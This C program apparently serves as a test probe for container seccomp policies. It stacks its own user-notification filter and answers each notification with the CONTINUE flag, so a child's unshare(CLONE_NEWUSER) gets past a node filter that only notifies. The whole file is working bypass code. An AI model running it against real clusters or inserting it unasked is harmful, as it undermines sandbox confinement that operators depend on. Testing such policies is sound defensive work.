/* notify_continue: the pod-side attack on `notify`. It stacks its own seccomp filter that
 * returns SECCOMP_RET_USER_NOTIF for unshare(2), keeps the listener, forks a child that calls
 * unshare(CLONE_NEWUSER), and answers every notification with SECCOMP_USER_NOTIF_FLAG_CONTINUE.
 * Under a node filter that returns notify for unshare (equal precedence: the newest filter, this
 * one, decides) the call runs; under one that refuses it the kernel's precedence keeps the
 * refusal. Prints "unshare rc=R errno=E" from the child; built static so it runs in a busybox
 * rootfs. */
#define _GNU_SOURCE
#include <errno.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

int main(void) {
    struct sock_filter insns[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_unshare, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {.len = 4, .filter = insns};
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)) { perror("prctl"); return 100; }
    int fd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
    if (fd < 0) { printf("listener errno=%d\n", errno); fflush(stdout); return 101; }
    pid_t pid = fork();
    if (pid < 0) { perror("fork"); return 102; }
    if (pid == 0) {
        close(fd);
        int r = unshare(CLONE_NEWUSER);
        printf("unshare rc=%d errno=%d\n", r, r ? errno : 0);
        fflush(stdout);
        _exit(0);
    }
    for (;;) {
        struct seccomp_notif req;
        struct seccomp_notif_resp resp;
        memset(&req, 0, sizeof req);
        int st;
        if (waitpid(pid, &st, WNOHANG) == pid) return 0;
        struct pollfd p = {.fd = fd, .events = POLLIN};
        if (poll(&p, 1, 100) <= 0) continue;
        if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &req)) {
            if (errno == EINTR) continue;
            /* The child died or never notified (its call was refused before reaching us). */
            break;
        }
        memset(&resp, 0, sizeof resp);
        resp.id = req.id;
        resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
        ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
    }
    int st;
    waitpid(pid, &st, 0);
    return 0;
}
